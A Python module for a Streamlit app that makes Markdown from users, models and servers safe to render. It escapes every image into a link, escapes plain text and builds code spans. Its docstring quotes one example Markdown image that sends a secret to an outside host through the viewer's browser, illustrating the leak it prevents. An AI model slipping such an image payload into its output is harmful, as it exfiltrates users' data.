"""Text from users, models, servers, imports and profiles, made safe to show: no image it names is fetched.

Every page shows stored or external text through these functions, never raw: a Markdown image
(`![x](http://elsewhere/?d=secret)`) makes each viewer's browser request that address as it renders,
and labels, titles and alerts render Markdown too. `markdown()` keeps message bodies Markdown but turns
every image into a link; `plain()` shows titles, notices, names and error texts as the characters they
are; `code()` shows a name as one inline code span. The Markdown is read the way the browser's parser
(CommonMark, GFM, math, directives) reads it, and wherever the two could differ an image is escaped:
a stray backslash shown in code is cosmetic, a fetched image is a leak.
"""

from __future__ import annotations

import re
import textwrap
from collections.abc import Iterable

import streamlit as st

LINE_BREAK = re.compile(r"\r\n|\r|\n")  # CommonMark's line endings; str.splitlines also splits on others
FENCE_OPEN = re.compile(r"( {0,3})(`{3,}|~{3,})(.*)")
# Lines that may open a list item, a block quote, or a definition (whose title may span lines).
CONTAINER = re.compile(r" {0,3}(?:[-+*](?:[ \t]|$)|\d{1,9}[.)](?:[ \t]|$)|>|\[)")
# Blocks that can hold a fence line without it being a fence, and end on rules not followed here:
# HTML blocks, math blocks ($$) and directive containers (:::).
OPAQUE_START = re.compile(r" {0,3}(?:<|\$\$|::)")
CONTAINER_MARKS = re.compile(r"(?:[ \t]*(?:>|[-+*](?=[ \t]|$)|\d{1,9}[.)](?=[ \t]|$)))*[ \t]*")
OPAQUE_OR_FENCE = re.compile(r"```|~~~|\$\$|<|::")
# What can swallow a backtick before a code span would start: raw HTML and autolinks (<), math ($),
# link text and destinations, footnotes and directive labels ([ ]), directive attributes ({ }),
# URLs that GFM turns into links (scheme: or www.), directives (:name); an escaped backtick.
INLINE_TOKEN = re.compile(r"\\[\s\S]|`+|!\[|[<$\[\]{}]|:[A-Za-z/]|(?i:www\.)")

PLAIN_ALWAYS = frozenset("\\`*[]<>~$|")
LINE_START = re.compile(r"[#=+-]|\d+[.)]")
ENTITY = re.compile(r"&(?=#?\w+;)")
DIRECTIVE = re.compile(r":(?=[A-Za-z])")
WHITESPACE = re.compile(r"\s+")
ICON = re.compile(r"(:material/[a-z0-9_]+:)\s+")


def clean(text: str) -> str:
    """The text as Streamlit sends it to the browser (dedented, stripped), to read it as the browser will."""
    return textwrap.dedent(str(text)).strip()


def markdown(text: str) -> str:
    """Markdown for a message body: everything as written, except that every image is a link."""
    text = clean(text)
    lines = LINE_BREAK.split(text)
    endings = [*LINE_BREAK.findall(text), ""]
    out: list[str] = []
    state = "top"  # "top": surely outside any container; "unsure": maybe in one; "lost": no fence is trusted
    clean_paragraph = True  # no construct open since the paragraph began that could hide a backtick
    previous_blank = True
    index = 0
    while index < len(lines):
        line = lines[index]
        blank = line.strip(" \t") == ""
        if state == "unsure" and previous_blank and not blank and line[0] not in " \t":
            state = "top"  # a line at column 0 after a blank line ends every list, quote and table
        if state == "top":
            fence = _fence_end(lines, index)
            if fence is not None:  # a fenced code block at top level: kept exactly as written
                for number in range(index, fence):
                    out.append(lines[number] + endings[number])
                index, previous_blank, clean_paragraph = fence, False, True
                continue
            if OPAQUE_START.match(line):
                state = "lost"
            elif CONTAINER.match(line) or "|" in line:
                state = "unsure"
        elif state == "unsure" and OPAQUE_OR_FENCE.match(line, CONTAINER_MARKS.match(line).end()):
            state = "lost"  # a fence, HTML or math inside a list or quote: where it ends is not followed
        if blank:
            clean_paragraph = True
            out.append(line + endings[index])
        else:
            escaped, clean_paragraph = _escape_images(line, clean_paragraph and "|" not in line)
            out.append(escaped + endings[index])
        previous_blank = blank
        index += 1
    return "".join(out)


def _fence_end(lines: list[str], start: int) -> int | None:
    """If lines[start] opens a fenced code block, the index just past its closing line (or the end)."""
    opened = FENCE_OPEN.fullmatch(lines[start])
    if opened is None:
        return None
    marks, info = opened.group(2), opened.group(3)
    if marks[0] == "`" and "`" in info:
        return None  # not a fence: an inline code span
    closer = re.compile(r" {0,3}" + re.escape(marks[0]) + "{" + str(len(marks)) + r",}[ \t]*")
    for number in range(start + 1, len(lines)):
        if closer.fullmatch(lines[number]):
            return number + 1
    return len(lines)  # at top level an unclosed fence runs to the end of the text


def _escape_images(line: str, spans_trusted: bool) -> tuple[str, bool]:
    """The line with `\\` before each image's `!`, leaving code spans that are surely code as they are.

    Returns whether the paragraph is still free of anything that could hide a backtick from view.
    """
    out: list[str] = []
    position = 0
    while (token := INLINE_TOKEN.search(line, position)) is not None:
        out.append(line[position:token.start()])
        text = token.group()
        position = token.end()
        if text == "![":
            text = "\\!["
        elif text[0] == "`":
            closing = None
            if spans_trusted:
                closing = re.compile(r"(?<!`)" + text + r"(?!`)").search(line, position)
            if closing is None:  # a backtick run with no partner on this line may pair on a later one
                spans_trusted = False
            else:
                text += line[position:closing.end()]
                position = closing.end()
        elif text[0] == "\\":
            spans_trusted = spans_trusted and text != "\\`"
        else:
            spans_trusted = False
        out.append(text)
    out.append(line[position:])
    return "".join(out), spans_trusted


def plain(text: str, one_line: bool = False) -> str:
    """Markdown that shows exactly `text`: for titles, names, notices, file names and error texts.

    Lines are kept as line breaks, or joined into one line for labels when `one_line` is set.
    """
    lines = [WHITESPACE.sub(" ", line).strip() for line in LINE_BREAK.split(str(text))]
    escaped = [_escape_plain(line) for line in lines if line]
    return (" " if one_line else "  \n").join(escaped)


def _escape_plain(line: str) -> str:
    """One line with every character that Markdown would act on escaped."""
    out = []
    for position, char in enumerate(line):
        if char in PLAIN_ALWAYS:
            out.append("\\" + char)
        elif char == "_" and not _inside_word(line, position):
            out.append("\\_")
        else:
            out.append(char)
    escaped = "".join(out)
    escaped = DIRECTIVE.sub(r"\\:", ENTITY.sub(r"\\&", escaped))
    start = LINE_START.match(escaped)
    if start is not None:  # a heading, list item or underline
        end = start.end()
        escaped = escaped[:end - 1] + "\\" + escaped[end - 1:]
    return escaped


def _inside_word(line: str, position: int) -> bool:
    """An underscore between letters or digits (OPENAI_API_KEY) can neither open nor close emphasis."""
    before = line[:position].rstrip("_")[-1:]
    after = line[position:].lstrip("_")[:1]
    return before.isalnum() and after.isalnum()


def code(text: str) -> str:
    """`text` as one inline code span, whatever backticks it holds (a model name, a file name)."""
    text = WHITESPACE.sub(" ", str(text)).strip()
    if not text:
        return ""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    padded = f" {text} " if text[0] == "`" or text[-1] == "`" else text
    return f"{fence}{padded}{fence}"


def note(text: str) -> str:
    """A note that may begin with a Material icon: the icon kept, the rest plain text."""
    icon = ICON.match(text)
    if icon is None:
        return plain(text)
    return f"{icon.group(1)} {plain(text[icon.end():])}"


def stream(chunks: Iterable[str]) -> str:
    """Show text as it arrives, each time whole and through `markdown()`, so a partial image is never one."""
    place = st.empty()
    text = ""
    for chunk in chunks:
        if chunk:
            text += chunk
            place.markdown(markdown(text))
    return text
